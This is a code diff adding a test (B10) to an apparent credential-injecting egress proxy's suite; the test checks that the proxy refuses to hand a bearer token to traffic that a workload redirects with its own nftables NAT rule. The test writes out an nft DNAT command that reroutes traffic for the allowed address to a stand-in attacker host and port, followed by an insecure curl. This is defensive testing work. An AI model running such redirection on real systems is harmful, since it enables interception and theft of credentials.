@@ -223,6 +223,25 @@ test("B8: a redirect from the allowed host to another", async () => {
   assert.deepEqual(audit, { "refused host-not-allowed SECRET": 1, "substituted SECRET": 1 });
 });
 
+test("B10: a route of the workload's own, made after the allowed address has been attested", async () => {
+  const to = new URL(url);
+  const nat = `add chain ip turn out { type nat hook output priority -100; }; add rule ip turn out ip daddr ${world.namespace.ipv4.inside} tcp dport ${to.port} dnat to ${attacker.ipv4.inside}:${evilPort}`;
+  const { value, outcome, audit } = await attempt(
+    `${curl(`--cacert ${ca}`, `${url}/a`)} && nft 'add table ip turn; ${nat}' && ${curl("-k", `${url}/a`)}`,
+  );
+  const { stolen, given } = await loot();
+  assert.deepEqual(
+    given.map((request) => header(request, "authorization")),
+    [`Bearer ${value}`],
+  );
+  assert.equal(stolen.length, 1);
+  assert.equal(occurrences(stolen.join(), value), 0);
+  // It is what the wire shows that was judged: a port that is not the socket's, and an address that is not attested.
+  assert.deepEqual(audit, { "refused unproven-flow SECRET": 1, "substituted SECRET": 1 });
+  const refused = outcome.audit.find((record) => record.outcome === "refused");
+  assert.equal(refused?.destination.address, attacker.ipv4.inside);
+});
+
 test("B13: another port of the allowed machine", async () => {
   const { value, audit } = await attempt(curl(`--cacert ${ca}`, `${world.url("1.3 aes-128-gcm")}/a`), {
     ports: [world.server.port("1.3 aes-256-gcm")],
